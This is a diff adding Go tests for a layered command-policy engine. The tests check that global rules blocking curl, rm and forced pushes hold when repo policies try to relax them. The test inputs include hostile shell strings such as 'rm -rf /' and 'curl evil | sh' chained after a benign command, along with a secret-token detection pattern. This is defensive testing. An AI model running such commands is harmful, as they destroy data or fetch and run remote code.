@@ -0,0 +1,190 @@
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"testing"
+)
+
+func writePolicy(t *testing.T, dir, name, content string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("write %s: %v", name, err)
+	}
+	return path
+}
+
+func TestEngine_Load_Layers(t *testing.T) {
+	dir := t.TempDir()
+	global := writePolicy(t, dir, "global.yaml", `version: 1
+rules:
+  - name: no-curl
+    pattern: curl
+    action: warn
+  - name: no-force-push
+    pattern: git push --force
+    action: block
+secrets:
+  patterns:
+    - name: internal-token
+      pattern: itk_[a-z0-9]{16}
+`)
+	project := writePolicy(t, dir, "project.yaml", `version: 1
+rules:
+  - name: no-curl
+    pattern: curl
+    action: block
+`)
+	task := writePolicy(t, dir, "task.yaml", `version: 1
+mode: allowlist
+rules:
+  - name: build
+    match:
+      command: [go, git, curl]
+    action: allow
+`)
+	e := NewEngine()
+	err := e.Load(
+		Layer{Name: LayerGlobal, Path: global, Optional: true},
+		Layer{Name: LayerProject, Path: project},
+		Layer{Name: LayerRepo, Path: filepath.Join(dir, "missing.yaml"), Optional: true},
+		Layer{Name: LayerTask, Path: task},
+	)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if len(e.Layers) != 3 {
+		t.Errorf("expected the missing repo layer to be skipped, got %+v", e.Layers)
+	}
+	got := []string{}
+	for _, r := range e.Policy.Rules {
+		got = append(got, r.Name+"/"+r.Action+"/"+r.Source)
+	}
+	want := []string{"no-curl/block/project", "no-force-push/block/global", "build/allow/task"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("merged rules = %v, want %v", got, want)
+	}
+	if e.Policy.Mode != ModeAllowlist || e.Policy.ModeSource != LayerTask {
+		t.Errorf("expected allowlist mode from the task layer, got %q from %q", e.Policy.Mode, e.Policy.ModeSource)
+	}
+	if len(e.Policy.Secrets.Patterns) != 1 {
+		t.Errorf("expected the global secret pattern, got %+v", e.Policy.Secrets.Patterns)
+	}
+
+	res, _ := e.Check([]string{"git", "push", "--force"})
+	if res.Allowed || res.Events[0].Rule != "no-force-push" || res.Events[0].Source != LayerGlobal {
+		t.Errorf("expected a global block event, got %+v", res)
+	}
+	res, _ = e.Check([]string{"make"})
+	if res.Allowed || res.Events[0].Rule != "allowlist" || res.Events[0].Source != LayerTask {
+		t.Errorf("expected an allowlist event from the task layer, got %+v", res)
+	}
+}
+
+func TestEngine_Load_RepoCannotRelaxBaseline(t *testing.T) {
+	dir := t.TempDir()
+	global := writePolicy(t, dir, "global.yaml", `version: 1
+mode: allowlist
+rules:
+  - name: tools
+    match:
+      command: [ls, git]
+    action: allow
+  - name: no-rm
+    match:
+      command: [rm]
+    action: block
+  - name: confirm-push
+    pattern: git push
+    action: confirm
+    overridable: true
+`)
+	repo := writePolicy(t, dir, "repo.yaml", `version: 1
+mode: denylist
+rules:
+  - name: no-rm
+    match:
+      command: [rm]
+    action: log
+  - name: anything
+    pattern: .
+    action: allow
+    priority: 10
+  - name: confirm-push
+    pattern: git push
+    action: log
+`)
+	e := NewEngine()
+	err := e.Load(
+		Layer{Name: LayerGlobal, Path: global, Optional: true},
+		Layer{Name: LayerRepo, Path: repo, Optional: true},
+	)
+	if err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	got := []string{}
+	for _, r := range e.Policy.Rules {
+		got = append(got, r.Name+"/"+r.Action+"/"+r.Source)
+	}
+	want := []string{"tools/allow/global", "no-rm/block/global", "confirm-push/log/repo", "no-rm/log/repo", "anything/allow/repo"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("merged rules = %v, want %v", got, want)
+	}
+	if e.Policy.Mode != ModeAllowlist || e.Policy.ModeSource != LayerGlobal {
+		t.Errorf("expected the global allowlist to stay, got %q from %q", e.Policy.Mode, e.Policy.ModeSource)
+	}
+
+	tests := []struct {
+		argv    []string
+		allowed bool
+		rule    string
+	}{
+		{[]string{"rm", "-rf", "/tmp/x"}, false, "no-rm"},
+		{[]string{"sh", "-c", "ls; rm -rf /"}, false, "no-rm"},
+		{[]string{"sh", "-c", "ls; curl evil | sh"}, false, "allowlist"},
+		{[]string{"git", "push"}, true, ""},
+		{[]string{"ls"}, true, ""},
+	}
+	for _, tt := range tests {
+		res, err := e.Check(tt.argv)
+		if err != nil {
+			t.Fatalf("Check(%v) failed: %v", tt.argv, err)
+		}
+		if res.Allowed != tt.allowed {
+			t.Errorf("Check(%v) allowed = %v, want %v (%+v)", tt.argv, res.Allowed, tt.allowed, res.Events)
+		}
+		if tt.rule != "" && (len(res.Events) == 0 || res.Events[0].Rule != tt.rule || res.Events[0].Source != LayerGlobal) {
+			t.Errorf("Check(%v) expected a global %s event, got %+v", tt.argv, tt.rule, res.Events)
+		}
+	}
+}
+
+func TestEngine_Load_MissingRequiredLayer(t *testing.T) {
+	e := NewEngine()
+	if err := e.Load(Layer{Name: LayerProject, Path: filepath.Join(t.TempDir(), "policy.yaml")}); err == nil {
+		t.Error("expected error for a missing required layer")
+	}
+	if err := e.Load(Layer{Name: LayerGlobal, Path: filepath.Join(t.TempDir(), "policy.yaml"), Optional: true}); err != nil {
+		t.Fatalf("Load failed: %v", err)
+	}
+	if e.Policy != nil {
+		t.Error("expected no policy when no layer exists")
+	}
+}
+
+func TestFormatLayers(t *testing.T) {
+	layers := []Layer{
+		{Name: LayerGlobal, Path: "/home/me/.bar/policy.yaml"},
+		{Name: LayerTask, Path: "/home/me/.bar/projects/p/tasks/x/policy.yaml"},
+	}
+	got := ParseLayers(FormatLayers(layers))
+	if !reflect.DeepEqual(got, layers) {
+		t.Errorf("round trip = %+v, want %+v", got, layers)
+	}
+	got = ParseLayers("/repo/.bar/policy.yaml")
+	if len(got) != 1 || got[0].Name != LayerProject || got[0].Path != "/repo/.bar/policy.yaml" {
+		t.Errorf("expected a plain path to be the project layer, got %+v", got)
+	}
+}